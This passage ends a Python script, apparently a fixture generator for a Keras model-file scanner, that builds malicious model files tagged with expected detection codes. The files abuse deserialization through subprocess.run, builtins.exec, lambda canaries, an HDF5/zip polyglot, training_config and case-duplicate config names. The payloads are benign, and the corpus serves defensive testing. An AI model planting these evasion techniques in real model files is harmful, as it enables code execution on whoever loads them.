                 {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                  "config": {"batch_shape": [None, 3], "dtype": "float32", "name": "in"}},
                 {"module": "subprocess", "class_name": "run", "registered_name": None,
                  "config": {"args": ["true"]}}]}}
    nested["config"]["layers"][2] = {**inner, "name": "dense_1",
                                     "inbound_nodes": base["config"]["layers"][2]["inbound_nodes"]}
    original("original-nested-sequential",
             "a nested model is one layer of the outer model; its own layer list is a second "
             "place layers come from",
             "a Sequential inside the functional model whose second layer is subprocess.run",
             [("KV302", f"{L2}/config/layers/1")], nested)
    builtins_fn = patch(base, f"{L1}/config/activation",
                        {"module": "builtins", "class_name": "function", "config": "exec",
                         "registered_name": "exec"})
    original("original-builtins-shorthand",
             "Keras treats module 'builtins' on a function node as shorthand for its own "
             "activations, losses, ...; 'exec' is not one of them but is a real builtin",
             "an activation that is a function node builtins.exec",
             [("KV301", f"{L1}/config/activation")], builtins_fn)
    lambda_in_seed = patch(base, f"{L1}/config/kernel_initializer/config/seed",
                           {"class_name": "__lambda__",
                            "config": {"value": [canary_lambda_code(), None, None]}})
    original("original-lambda-value-form-in-initializer",
             "serialization_lib's generic __lambda__ value form may sit anywhere, even as an "
             "initializer's seed",
             "a generic __lambda__ node as GlorotUniform's seed",
             [("KV505", f"{L1}/config/kernel_initializer/config/seed")], lambda_in_seed)

    h5_bytes = saved(model, ".h5")
    evil_zip = rezip([("config.json", json.dumps(base).encode()), ("metadata.json", b"{}")])
    original("original-polyglot-h5-zip",
             "an HDF5 file followed by a zip: h5py reads the model, zipfile.is_zipfile (which "
             "Keras asks first for .keras names) finds the zip at the end",
             "a legacy .h5 model with a .keras zip appended", [("KV108", None)],
             h5_bytes + evil_zip, kind="h5")

    def second_config(file: h5py.File) -> None:
        training = json.loads(file.attrs["training_config"]) if "training_config" in \
            file.attrs else {}
        training.update({"loss": {"module": "subprocess", "class_name": "run",
                                  "registered_name": None, "config": {"args": ["true"]}},
                         "metrics": None, "weighted_metrics": None, "loss_weights": None,
                         "optimizer_config": {"class_name": "Adam",
                                              "config": {"learning_rate": 0.001}}})
        file.attrs["training_config"] = json.dumps(training)

    original("original-h5-training-config",
             "a legacy .h5 carries a second JSON config in its training_config attribute, "
             "deserialized after the model (outside Keras' safe-mode scope)",
             "a legacy .h5 whose training_config loss is subprocess.run",
             [("KV302", "/loss")], edit_h5(h5_bytes, second_config), kind="h5")
    case_dup = rezip([*[(info.filename, body) for info, body in
                        zip_members(saved(model, ".keras"))],
                      ("Config.json", os_system_config(base))])
    original("original-zip-case-duplicate",
             "'Config.json' and 'config.json' are one file on case-insensitive file systems "
             "(an extracting reader overwrites one with the other)",
             "a .keras zip with a second, differently cased Config.json naming os.system",
             [("KV106", None), ("KV107", None)], case_dup, kind="keras")


def build() -> Corpus:
    corpus = Corpus()
    base = base_set.base_model()
    model = base_keras_model()
    advisories(corpus, base, model)
    dangerous_arguments(corpus, base)
    lambda_evasions(corpus, base)
    open_classes(corpus, base)
    containers(corpus, base, model)
    originals(corpus, base, model)
    return corpus


def main() -> int:
    corpus = build()
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    for entry, data in corpus.entries:
        (OUT / str(entry["file"])).write_bytes(data)
    (OUT / "MANIFEST.json").write_text(json.dumps(
        {"generator": "scripts/make_corpus_attacks.py", "keras_version": keras.__version__,
         "python": sys.version.split()[0], "fixtures": [e for e, _ in corpus.entries]},
        indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    print(f"wrote {len(corpus.entries)} fixtures to {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
